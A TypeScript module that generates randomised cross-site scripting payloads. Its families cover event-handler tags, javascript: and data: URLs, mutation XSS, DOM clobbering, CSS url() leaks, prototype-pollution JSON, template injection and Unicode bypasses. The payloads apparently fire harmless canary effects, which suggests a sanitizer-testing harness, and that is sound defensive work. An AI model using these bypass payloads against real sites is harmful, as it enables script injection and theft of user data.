import type { Random } from '../support/random.ts'
import { EFFECTS, type Channel } from './vector.ts'

/** Writes one payload of its family, with what it leaves behind named after `id`. */
export interface Family {
  readonly name: string
  readonly channel: Channel
  readonly write: (random: Random, id: string) => string
}

const QUOTES = ['"', "'", '`', ''] as const
const GAPS = [' ', '\t', '\n', '/', ' / ', '  '] as const
const LOADERS = [
  ['img', 'src', 'onerror'],
  ['video', 'src', 'onerror'],
  ['audio', 'src', 'onerror'],
  ['input type=image', 'src', 'onerror'],
  ['script', 'src', 'onerror'],
  ['object', 'data', 'onerror'],
  ['embed', 'src', 'onload'],
  ['link rel=stylesheet', 'href', 'onerror'],
  ['iframe', 'src', 'onload'],
  ['image', 'src', 'onerror'],
] as const
const STARTERS = [
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocusin'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['div tabindex=1 autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['dialog open tabindex=0 autofocus', 'onfocus'],
  ['p style="animation:x 1s"', 'onanimationstart'],
  ['h6 style="transition:1s"', 'ontransitionrun'],
  ['div style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
  ['a href=# autofocus', 'onfocus'],
  ['form', 'onformdata'],
  ['video controls', 'onloadstart'],
] as const
const BREAKS = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</select></option>',
  ']]>',
  '</td></table>',
  '*/',
  '}</style>',
] as const
const FOREIGN = ['svg', 'math'] as const
const POINTS = [
  'title',
  'desc',
  'foreignObject',
  'mtext',
  'mi',
  'mo',
  'ms',
  'annotation-xml encoding="text/html"',
  'mglyph',
  'malignmark',
] as const
const RAW = ['style', 'title', 'noscript', 'xmp', 'textarea', 'iframe', 'noembed', 'noframes', 'script', 'plaintext', 'template'] as const
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'blob:',
  'filesystem:',
  '//',
  '\\\\',
  '/\\',
  'http:',
  'view-source:',
  'javascript://%0a',
] as const
const CARRIERS = [
  'a href',
  'area href',
  'iframe src',
  'form action',
  'button formaction',
  'object data',
  'embed src',
  'base href',
  'link rel=prefetch href',
  'img srcset',
  'source srcset',
  'video poster',
  'a ping',
  'svg><a xlink:href',
  'svg><use href',
  'svg><image href',
  'svg><animate attributeName=href to',
  'math><mi xlink:href',
  'meta http-equiv=refresh content="0;url',
  'body background',
  'input type=image src',
  'track src',
  'html manifest',
  'isindex action',
] as const

function quoted(random: Random, text: string): string {
  const quote = random.pick(QUOTES)
  return quote === ''
    ? text.replaceAll(/[\s"'`<>]/g, (char) => `&#${char.codePointAt(0)};`)
    : `${quote}${text.replaceAll(quote, `&#${quote.codePointAt(0)};`)}${quote}`
}

function scriptOf(random: Random, id: string): string {
  const js = EFFECTS.script(id)
  return random.pick([
    js,
    `self['__pw'+'ned']='${id}'`,
    `top.__pwned='${id}'`,
    `(()=>{${js}})()`,
    `fetch('${EFFECTS.trap(id)}');${js}`,
    `new Image().src='${EFFECTS.trap(id)}';${js}`,
    `Function("${js}")()`,
    `[].constructor.constructor(\`${js}\`)()`,
    `setTimeout("${js}")`,
    `import('${EFFECTS.trap(id)}');${js}`,
    `document.body.appendChild(document.createElement('script')).text="${js}"`,
  ])
}

function address(random: Random, id: string): string {
  const scheme = random.pick(SCHEMES)
  if (/script/i.test(scheme)) return `${scheme}${EFFECTS.script(id)}`
  if (scheme === 'data:text/html;base64,')
    return scheme + Buffer.from(`<script>parent.${EFFECTS.script(id).slice(7)}</script>`).toString('base64')
  if (scheme.startsWith('data:image')) return `${scheme}<svg xmlns='http://www.w3.org/2000/svg' onload="${EFFECTS.script(id)}"/>`
  if (scheme.startsWith('data:')) return `${scheme}<script>parent.${EFFECTS.script(id).slice(7)}</script>`
  return `${scheme}${EFFECTS.trap(id).replace(/^http:\/\//, scheme === 'http:' ? '//' : '')}`
}

/** Shapes that are harmless when parsed once and not when what came out is parsed again. */
function mutating(random: Random, id: string): string {
  const inner = `<img src=x onerror=${quoted(random, EFFECTS.script(id))}>`
  const raw = random.pick(RAW)
  const outer = Array.from({ length: random.int(1, 3) }, () =>
    random.pick([...FOREIGN, ...POINTS, 'p', 'table', 'form', 'select', 'svg', 'b']),
  )
  const open = outer.map((tag) => `<${tag}>`).join('')
  const hidden = random.pick([
    `<!--</${raw}>${inner}-->`,
    `<a title="</${raw}>${inner}">`,
    `<![CDATA[</${raw}>${inner}]]>`,
    `&lt;/${raw}&gt;${inner}`,
    `<img alt="<x" title="/></${raw}>${inner}">`,
  ])
  return `${open}<${raw}>${hidden}`
}

export const FAMILIES: readonly Family[] = [
  {
    name: 'script element',
    channel: 'html',
    write: (r, id) =>
      `${r.pick(BREAKS)}<${r.pick(['script', 'SCRIPT', 'scr\u0000ipt', 'script/x', 'script type=module', 'svg><script'])}>${scriptOf(r, id)}</script${r.pick(['>', ' >', '\n>', ''])}`,
  },
  { name: 'script address', channel: 'html', write: (r, id) => `${r.pick(BREAKS)}<script src=${quoted(r, EFFECTS.trap(id))}></script>` },
  {
    name: 'loading element',
    channel: 'html',
    write: (r, id) => {
      const [tag, from, on] = r.pick(LOADERS)
      return `${r.pick(BREAKS)}<${tag}${r.pick(GAPS)}${from}=${r.pick(['x', EFFECTS.trap(id)])} ${on}=${quoted(r, scriptOf(r, id))}>`
    },
  },
  {
    name: 'starting element',
    channel: 'html',
    write: (r, id) => {
      const [tag, on] = r.pick(STARTERS)
      return `${r.pick(BREAKS)}<${tag}${r.pick(GAPS)}${r.chance(0.5) ? on : on.toUpperCase()}${r.pick(['=', ' = '])}${quoted(r, scriptOf(r, id))}>`
    },
  },
  {
    name: 'unknown element',
    channel: 'html',
    write: (r, id) => `<x-${id}${r.pick(GAPS)}tabindex=0 autofocus onfocus=${quoted(r, scriptOf(r, id))} id=x>`,
  },
  {
    name: 'svg',
    channel: 'html',
    write: (r, id) =>
      `<svg>${r.pick([`<animate onbegin=${quoted(r, scriptOf(r, id))} attributeName=x dur=1s>`, `<set onbegin=${quoted(r, scriptOf(r, id))} attributeName=x>`, `<style><img src=x onerror=${quoted(r, EFFECTS.script(id))}></style>`, `<foreignObject><iframe src=${quoted(r, address(r, id))}></foreignObject>`, `<image href=${EFFECTS.trap(id)}>`, `<use href="data:image/svg+xml,<svg id=x onload=${EFFECTS.script(id)}>#x">`, `<script href=${EFFECTS.trap(id)} />`])}`,
  },
  {
    name: 'mathml',
    channel: 'html',
    write: (r, id) =>
      `<math><${r.pick(POINTS)} ${r.pick(['xlink:href', 'href', 'actiontype=statusline#1 xlink:href'])}=${quoted(r, address(r, id))}>${r.pick(['x', `<img src=x onerror=${EFFECTS.script(id)}>`])}`,
  },
  {
    name: 'address in an attribute',
    channel: 'html',
    write: (r, id) => {
      const carrier = r.pick(CARRIERS)
      return carrier.endsWith('url') ? `<${carrier}=${address(r, id)}">` : `${r.pick(BREAKS)}<${carrier}=${quoted(r, address(r, id))}>x`
    },
  },
  { name: 'mutating', channel: 'html', write: mutating },
  {
    name: 'nested frames',
    channel: 'html',
    write: (r, id) =>
      `<iframe srcdoc=${quoted(r, `<script>parent.${EFFECTS.script(id).slice(7)}</script>`)}${r.pick(['', ' sandbox=allow-scripts', ' loading=eager'])}>`,
  },
  {
    name: 'clobbering',
    channel: 'html',
    write: (r, id) =>
      `<form id=${r.pick(['attributes', 'childNodes', 'body', 'cookie'])}><input name=${r.pick(['parentNode', 'innerHTML', 'nodeName', 'ownerDocument'])}><img src=x onerror=${quoted(r, EFFECTS.script(id))}></form>`,
  },
  {
    name: 'shadow root',
    channel: 'html',
    write: (r, id) =>
      `<div><template shadowrootmode=${r.pick(['open', 'closed'])}><img src=${EFFECTS.trap(id)} onerror=${quoted(r, EFFECTS.script(id))}></template></div>`,
  },
  {
    name: 'entities',
    channel: 'html',
    write: (r, id) => {
      const text = `<img src=x onerror=${EFFECTS.script(id)}>`
      return r.pick([
        (t: string) => t.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
        (t: string) => t.replaceAll('<', '&amp;lt;'),
        (t: string) => t.replaceAll('<', '&#x3c;'),
        (t: string) => t.replaceAll('<', '\\u003c'),
        (t: string) => t.replaceAll('<', '\\x3c'),
        (t: string) => encodeURIComponent(t),
        (t: string) => t.replaceAll('<', '%253C'),
      ])(text)
    },
  },
  { name: 'address', channel: 'url', write: address },
  {
    name: 'stylesheet',
    channel: 'css',
    write: (r, id) =>
      r.pick([
        `<style>@import url(${EFFECTS.trap(id)});</style>`,
        `}*{background:url(${EFFECTS.trap(id)})}`,
        `</style><style>body{background-image:image-set("${EFFECTS.trap(id)}" 1x)}`,
        `x;background:url("${EFFECTS.trap(id)}")`,
        `@font-face{font-family:x;src:url(${EFFECTS.trap(id)})}*{font-family:x}`,
        `input[value^="1"]{background:url(${EFFECTS.trap(id)})}`,
        `:host{--x:url(${EFFECTS.trap(id)});content:var(--x)}`,
        `x:expression(${EFFECTS.script(id)})`,
        `-moz-binding:url(${EFFECTS.trap(id)}#x)`,
        `<link rel=stylesheet href=${EFFECTS.trap(id)}>`,
        `"style="animation-name:x" onanimationstart="${EFFECTS.script(id)}`,
        `@layer{};@supports(x){}</style><img src=${EFFECTS.trap(id)}>`,
      ]),
  },
  {
    name: 'markdown link',
    channel: 'markdown',
    write: (r, id) =>
      r.pick([
        `[klik](${address(r, id)})`,
        `![](${EFFECTS.trap(id)})`,
        `[x][1]\n\n[1]: ${address(r, id)}`,
        `![x][1]\n[1]: ${EFFECTS.trap(id)} "t"`,
        `<${EFFECTS.trap(id)}>`,
        `[![x](${EFFECTS.trap(id)})](${address(r, id)})`,
        `[x](<${address(r, id)}>)`,
        `${'['.repeat(30)}x](${address(r, id)})`,
      ]),
  },
  {
    name: 'markdown with html',
    channel: 'markdown',
    write: (r, id) =>
      r.pick([
        `**<img src=x onerror=${quoted(r, EFFECTS.script(id))}>**`,
        `\`\`\`html\n</code></pre><svg onload=${EFFECTS.script(id)}>\n\`\`\``,
        `| a | <img src=${EFFECTS.trap(id)}> |\n|---|---|`,
        `> <details open ontoggle=${EFFECTS.script(id)}>`,
        `# <script>${EFFECTS.script(id)}</script>`,
        `[a]: # (<img src=x onerror=${EFFECTS.script(id)}>)`,
        `~~<iframe src="${address(r, id)}">~~`,
      ]),
  },
  {
    name: 'json',
    channel: 'json',
    write: (r, id) =>
      r.pick([
        `"}</script><script>${EFFECTS.script(id)}</script>`,
        `{"__proto__":{"innerHTML":"<img src=x onerror=${EFFECTS.script(id)}>"}}`,
        `","dangerouslySetInnerHTML":{"__html":"<svg onload=${EFFECTS.script(id)}>"},"x":"`,
        `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${EFFECTS.script(id)}"}}`,
        `{"constructor":{"prototype":{"href":"${EFFECTS.trap(id)}"}}}`,
        `\u2028${EFFECTS.script(id)}\u2029`,
        `");${EFFECTS.script(id)};//`,
        `'+${EFFECTS.script(id)}+'`,
      ]),
  },
  {
    name: 'template',
    channel: 'text',
    write: (r, id) =>
      r.pick([
        `{{constructor.constructor("${EFFECTS.script(id)}")()}}`,
        `\${${EFFECTS.script(id)}}`,
        `<%= ${EFFECTS.script(id)} %>`,
        `#{${EFFECTS.script(id)}}`,
        `[[${EFFECTS.script(id)}]]`,
        `{%raw%}<svg onload=${EFFECTS.script(id)}>{%endraw%}`,
        `<div v-html="'<img src=x onerror=${EFFECTS.script(id)}>'">`,
        `<div ng-app ng-init="${EFFECTS.script(id)}">`,
        `@(${EFFECTS.script(id)})`,
        `<x-x @click="${EFFECTS.script(id)}" :key="x">`,
        `*ngFor="let x of ${EFFECTS.script(id)}"`,
        `{@html '<img src=x onerror=${EFFECTS.script(id)}>'}`,
      ]),
  },
  {
    name: 'odd characters',
    channel: 'text',
    write: (r, id) => {
      const text = `<svg onload=${EFFECTS.script(id)}>`
      return r.pick([
        (t: string) => t.replace('<', '＜').replace('>', '＞'),
        (t: string) => `\u202e${t}\u202c`,
        (t: string) => t.replace('svg', 's\u200bvg'),
        (t: string) => t.replace('<', '<\u0000'),
        (t: string) => `\ufeff${t}`,
        (t: string) => t.replace('<', '<\u0338'),
        (t: string) => `ʺ>${t}`,
        (t: string) => t.replace('svg', 'ſvg'),
        (t: string) => [...t].map((c) => `${c}\u0301`).join(''),
        (t: string) => `\u0085${t}\u000b`,
        (t: string) => t.replace(' ', '\u00a0'),
        (t: string) => [...t].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('') + t,
      ])(text)
    },
  },
]
